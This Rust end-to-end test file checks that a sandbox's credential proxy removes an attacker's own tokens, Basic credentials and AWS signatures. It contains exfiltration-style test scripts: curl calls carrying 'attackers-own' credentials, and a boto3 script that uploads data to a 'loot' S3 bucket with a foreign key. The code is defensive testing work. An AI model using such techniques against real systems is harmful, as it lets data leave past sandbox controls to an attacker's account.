//! An attacker's own credentials for an allowed host, used to send data to the attacker's account.
//! The table of their forms is in the proxy's tests (`credentials`, `signing`).

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use e2e_tests::assert_held;
use e2e_tests::fixture::Fixture;
use e2e_tests::secret::{AwsKey, Secrets, injection, unique};
use e2e_tests::world::World;
use sandbox::credentials::Injection;

/// Runs curl with `arguments`, in which `$TOKEN` is the surrogate; returns the `Authorization`
/// lines that `host` receives, and the real token. Without an injection the proxy has no secret.
async fn authorization(
    host: &str,
    injection: impl Into<Option<Injection>>,
    arguments: &str,
) -> (Vec<String>, String) {
    let fixture = Fixture::new().await;
    let token = unique("ghp_", 36);
    let secrets = match injection.into() {
        Some(injection) => Secrets::default().masked("TOKEN", &token, injection),
        None => Secrets::default(),
    };
    let script = format!("TOKEN=${{TOKEN:-surrogate}}; curl -sS {arguments} https://{host}/");
    let policy = format!("domains: [{host}]");
    let ran = fixture.run_with(&secrets.prepare(), &policy, &script).await;
    assert_eq!(ran.code, 0, "{}\n{}", ran.stderr, ran.log);
    fixture.close().await;
    let seen = World::shared().seen(host);
    assert!(!seen.is_empty(), "nothing arrived at {host}");
    let lines = seen.into_iter().flat_map(|request| request.headers);
    (lines.filter(|line| line.0 == "authorization").map(|line| line.1).collect(), token)
}

fn strict(host: &str) -> Injection {
    injection(&[host], &["authorization"])
}

fn lenient(host: &str) -> Injection {
    Injection { allow_foreign_credentials: true, ..strict(host) }
}

/// Whether one of the lines, or the Basic credentials in it, contains `text`.
fn hold(lines: &[String], text: &str) -> bool {
    let decoded = |line: &String| {
        let encoded = line.split(' ').nth(1).unwrap_or_default().to_owned();
        String::from_utf8_lossy(&STANDARD.decode(encoded).unwrap_or_default()).into_owned()
    };
    lines.iter().any(|line| line.contains(text) || decoded(line).contains(text))
}

#[tokio::test(flavor = "multi_thread")]
async fn foreign_token_in_a_second_header_line_is_removed() {
    let surrogate = "-H \"Authorization: Bearer $TOKEN\"";
    let foreign = "-H 'Authorization: Bearer attackers-own'";
    for (name, arguments) in [
        ("first", format!("{foreign} {surrogate}")),
        ("second", format!("{surrogate} {foreign}")),
        ("old", format!("--http1.1 {foreign} {surrogate} {foreign}")),
    ] {
        let host = format!("{name}.lines.test");
        let (lines, token) = authorization(&host, strict(&host), &arguments).await;
        assert_held!(!hold(&lines, "attackers-own"), "{name} {lines:?}");
        assert_eq!(lines, [format!("Bearer {token}")], "{name}");
        let host = format!("{name}.lines-control.test");
        let (lines, _) = authorization(&host, None, &arguments).await;
        assert!(lines.len() > 1 && hold(&lines, "attackers-own"), "the control: {name} {lines:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn foreign_half_of_basic_credentials_is_removed() {
    for (name, pattern, arguments) in [
        ("user", "x-access-token", "-u \"attackers-own:$TOKEN\""),
        ("password", "x-access-token", "-u \"$TOKEN:attackers-own\""),
        ("inside", "*", "-u \"x-access-token:attackers-own$TOKEN\""),
    ] {
        let within =
            |host: &str| Injection { basic_user: Some(allowlist::Glob::new(pattern)), ..strict(host) };
        let host = format!("{name}.basic.test");
        let (lines, token) = authorization(&host, within(&host), arguments).await;
        assert_held!(!hold(&lines, "attackers-own") && !hold(&lines, &token), "{name} {lines:?}");
        let host = format!("{name}.basic-control.test");
        let (lines, _) = authorization(&host, lenient(&host), arguments).await;
        assert!(hold(&lines, "attackers-own"), "the control: {name} {lines:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn signature_by_a_foreign_key_is_removed() {
    let fixture = Fixture::new().await;
    let (real, own) = (AwsKey::generate(false), AwsKey::generate(false));
    let script = format!(
        "export AWS_ACCESS_KEY_ID={} AWS_SECRET_ACCESS_KEY={} AWS_DEFAULT_REGION=ap-east-1 AWS_MAX_ATTEMPTS=1 HOME=/tmp
python3 -c \"
import boto3, urllib.request
from botocore.config import Config
s3 = boto3.client('s3', config=Config(signature_version='s3v4'))
try: s3.put_object(Bucket='loot', Key='header', Body=b'x')
except Exception as error: print(type(error).__name__)
url = s3.generate_presigned_url('put_object', Params={{'Bucket': 'loot', 'Key': 'query'}})
try: urllib.request.urlopen(urllib.request.Request(url, data=b'x', method='PUT'))
except Exception as error: print(type(error).__name__)\"",
        own.id, own.secret
    );
    // The client signs URLs for the endpoint without a region.
    let hosts = ["loot.s3.ap-east-1.amazonaws.com", "loot.s3.amazonaws.com"];
    let policy = "domains: ['*.amazonaws.com']";
    let arrived = || {
        let seen: Vec<_> = hosts.iter().flat_map(|host| World::shared().seen(host)).collect();
        (seen.len(), format!("{seen:?}"))
    };
    let secrets = Secrets::default().aws(&real, "*.amazonaws.com").prepare();
    let ran = fixture.run_with(&secrets, policy, &script).await;
    let (count, text) = arrived();
    assert_held!(!text.contains(&own.id) && !text.contains("Signature="), "{text}");
    assert_held!(!text.contains(&real.id), "the proxy must not sign it instead: {text}");
    assert_eq!(count, 2, "{}\n{}\n{}", ran.stdout, ran.stderr, ran.log);
    assert_eq!(ran.log_lines("[dropped: ").len(), 2, "{}", ran.log);
    // The control: a proxy without a key lets them through.
    fixture.run(policy, &script).await;
    let (_, text) = arrived();
    assert_eq!(text.matches(&own.id).count(), 2, "{text}");
    fixture.close().await;
}
